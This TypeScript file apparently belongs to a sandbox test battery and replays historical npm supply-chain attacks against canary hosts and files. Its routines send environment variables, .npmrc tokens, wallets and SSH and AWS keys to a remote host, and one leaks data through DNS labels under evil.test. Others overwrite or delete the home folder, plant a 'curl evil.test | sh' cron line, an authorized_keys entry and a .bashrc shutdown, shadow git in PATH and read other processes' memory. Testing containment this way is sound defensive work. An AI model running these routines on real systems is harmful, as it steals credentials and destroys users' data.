// What poisoned packages did when they ran, replayed: hosts are canaries or names in the battery's resolver, payloads
// are writes to canaries. Each does all that it did; one success is a leak.
import * as child from "node:child_process";
import * as crypto from "node:crypto";
import * as dns from "node:dns";
import * as fs from "node:fs";
import * as http from "node:http";
import { connect } from "node:net";
import { hostname } from "node:os";
import { join } from "node:path";
import { gunzipSync, gzipSync } from "node:zlib";
import { claim, type Attack, type Need, type Place, type Target } from "../attack.ts";

const PLACES: readonly Place[] = ["main", "child"];

export const attacks: Attack[] = [
  replay("crossenv", "crossenv 2017: posts the environment", ["tcp-far"], (at) => post(at, JSON.stringify(process.env))),
  replay("eslint-scope", "eslint-scope 2018: sends .npmrc's token in a Referer header, evaluates what comes back", ["tcp-far"], async (at) => {
    const token = read(join(at.home, ".npmrc"));
    return token + (await send(at, { path: "/raw", headers: { referer: `http://x/${encodeURIComponent(token)}` } }));
  }),
  replay("event-stream", "event-stream 2018: decrypts its payload, patches another package in node_modules, sends wallets", ["tcp-far"], async (at) => {
    const payload = decrypted(at.token);
    const patched = tried(() => fs.appendFileSync(join(at.project, "node_modules/neighbour/index.js"), `\n// ${payload}`));
    const wallet = read(join(at.home, ".config/wallet.json"));
    return [patched, wallet, await post(at, wallet)].join();
  }),
  replay("dependency-confusion", "dependency confusion 2021: host name and folder in DNS labels", ["names"], (at) => Promise.allSettled([hostname(), process.cwd().slice(-20)].map((word) => dns.promises.lookup(`${Buffer.from(word).toString("hex").slice(0, 40)}.${at.token}.evil.test`)))),
  replay("ua-parser-js", "ua-parser-js 2021: downloads a program, makes it executable, runs it past its parent's end", ["tcp-far"], async (at) => {
    const miner = join(process.env["TMPDIR"] ?? "/tmp", `miner-${at.token}`);
    const fetched = await post(at, "give me the miner");
    fs.copyFileSync(join(at.project, "code/program"), miner);
    fs.chmodSync(miner, 0o755);
    return fetched + child.spawnSync(miner, [at.token], { encoding: "latin1" }).stdout;
  }),
  replay("coa-rc", "coa and rc 2021: a script starts a hidden shell that loads a library", [], (at) => child.execSync(`sh -c '${at.program} ${at.token}'`, { encoding: "latin1" })),
  replay("node-ipc", "node-ipc 2022: asks where it is, then overwrites every file it finds", ["tcp-far"], async (at) => {
    const place = await send(at, { path: "/ipgeo" });
    return place + overwrite(join(at.folder, "tree")) + overwrite(at.home);
  }),
  replay("xz", "xz 2024 in npm form: a payload hidden in a test file becomes an addon and is loaded", [], (at) => {
    const hidden = gzipSync(fs.readFileSync(join(at.project, "code/stray.node")));
    const file = join(process.env["TMPDIR"] ?? "/tmp", `liblzma-${at.token}.node`);
    fs.writeFileSync(file, gunzipSync(hidden));
    process.dlopen({ exports: {} }, file);
    return claim(at);
  }),
  replay("solana-web3", "solana web3.js 2024: sends keys in headers of innocent requests", ["tcp-far"], (at) => send(at, { headers: { "x-amz-cf-id": read(join(at.home, ".config/wallet.json")) } })),
  replay("rand-user-agent", "rand-user-agent 2025: a remote shell from a folder in HOME, PATH shadowed", ["tcp-far"], async (at) => {
    const planted = tried(() => {
      fs.mkdirSync(join(at.home, ".node_modules"), { recursive: true });
      fs.writeFileSync(join(at.home, ".node_modules/index.js"), at.token);
    });
    const shell = connect({ host: at["tcp-far"].host, port: at["tcp-far"].port });
    await heard(shell);
    return planted;
  }),
  replay("nx", "nx 2025: asks AI command-line tools to search for secrets, appends to .bashrc", [], (at) => {
    const tools = ["claude", "gemini", "q"].map((tool) => tried(() => child.execFileSync(tool, ["--version"]).toString()));
    const shadowed = tried(() => child.execFileSync(at.program, [at.token], { encoding: "latin1" }));
    return [...tools, shadowed, tried(() => fs.appendFileSync(join(at.home, ".bashrc"), "sudo shutdown -h 0"))].join();
  }),
  replay("shai-hulud", "Shai-Hulud 2025, first wave: scans for secrets, asks the metadata address, adds a workflow", ["tcp-metadata", "tcp-far"], async (at) => {
    const secrets = [".npmrc", ".aws/credentials", ".ssh/id_ed25519"].map((file) => read(join(at.home, file)));
    const metadata = await knock(at["tcp-metadata"]);
    const workflow = tried(() => {
      fs.mkdirSync(join(at.project, ".github/workflows"), { recursive: true });
      fs.writeFileSync(join(at.project, `.github/workflows/shai-hulud-${at.token}.yml`), at.token);
    });
    return [...secrets, metadata, workflow, await post(at, secrets.join())].join();
  }),
  replay("shai-hulud-second", "Shai-Hulud 2025, second wave: docker.sock for root, wipes the home folder when it finds nothing", ["unix"], async (at) => {
    const docker = await knockUnix(at.unix, at.token);
    return docker + tried(() => fs.rmSync(at.home, { recursive: true, force: true }));
  }),
  replay("axios", "axios 2026: a dependency that nobody imports; its script drops a program and erases itself", ["tcp-far"], async (at) => {
    const erased = tried(() => fs.writeFileSync(join(at.project, "node_modules/neighbour/package.json"), `{"token":"${at.token}"}`));
    return erased + (await post(at, process.platform)) + tried(() => child.execFileSync(at.program, [at.token], { encoding: "latin1" }));
  }),
  replay("tanstack", "TanStack 2026: reads other processes' memory, plants files in the project", ["victim"], (at) => {
    const memory = tried(() => fs.readFileSync(`/proc/${at.victim.pid}/environ`, "latin1") + fs.readFileSync(`/proc/${at.victim.pid}/cmdline`, "latin1"));
    return memory + [".claude/settings.json", ".vscode/tasks.json"].map((file) => tried(() => fs.appendFileSync(join(at.project, file), at.token))).join();
  }),
  replay("typosquat-crontab", "a typosquat: a line in the crontab", [], (at) => tried(() => fs.appendFileSync(join(at.folder, "keep"), "* * * * * curl evil.test | sh"))),
  replay("authorized-keys", "a typosquat: its key in authorized_keys", [], (at) => fs.appendFileSync(join(at.home, ".ssh/authorized_keys"), "ssh-ed25519 AAAA")),
  replay("path-shadowing", "puts a program of its own before others in PATH, in the user's bin folder", [], (at) => {
    fs.mkdirSync(join(at.home, "bin"), { recursive: true });
    fs.copyFileSync(join(at.project, "code/program"), join(at.home, "bin/git"));
  }),
];

function replay(name: string, tries: string, needs: Need[], run: (at: Target) => unknown): Attack {
  return { name: `supply-chain/${name}`, tries, places: PLACES, needs, run };
}

function tried(work: () => unknown): string {
  try {
    return String(work());
  } catch (error) {
    return String(error);
  }
}

function read(file: string): string {
  return tried(() => fs.readFileSync(file, "latin1"));
}

function post(at: Target, body: string): Promise<string> {
  return send(at, { method: "POST", path: `/${at.token}` }, body);
}

function send(at: Target, options: http.RequestOptions, body = ""): Promise<string> {
  const request = http.request({ host: at["tcp-far"].host, port: at["tcp-far"].port, ...options });
  request.end(body);
  return heard(request);
}

function knock(at: { host: string; port: number }): Promise<string> {
  return heard(connect(at));
}

function knockUnix(path: string, token: string): Promise<string> {
  const socket = connect({ path });
  socket.on("connect", () => socket.write(`GET /containers/json ${token}`));
  return heard(socket);
}

function heard(stream: { on: (event: string, listener: (value?: unknown) => void) => unknown; destroy: () => unknown }): Promise<string> {
  return new Promise((done) => {
    const finish = (value: unknown): void => {
      setTimeout(() => (stream.destroy(), done(String(value))), 20);
    };
    for (const event of ["connect", "response", "error"]) stream.on(event, finish);
    setTimeout(() => finish("waited"), 5000).unref();
  });
}

function decrypted(key: string): string {
  const secret = crypto.createHash("sha256").update(key).digest();
  const cipher = crypto.createCipheriv("aes-256-ctr", secret, secret.subarray(0, 16));
  const hidden = Buffer.concat([cipher.update(`payload ${key}`), cipher.final()]);
  const decipher = crypto.createDecipheriv("aes-256-ctr", secret, secret.subarray(0, 16));
  return Buffer.concat([decipher.update(hidden), decipher.final()]).toString();
}

function overwrite(folder: string): string {
  return tried(() => {
    for (const entry of fs.readdirSync(folder, { recursive: true, withFileTypes: true })) {
      if (entry.isFile()) fs.writeFileSync(join(entry.parentPath, entry.name), "❤️");
    }
  });
}
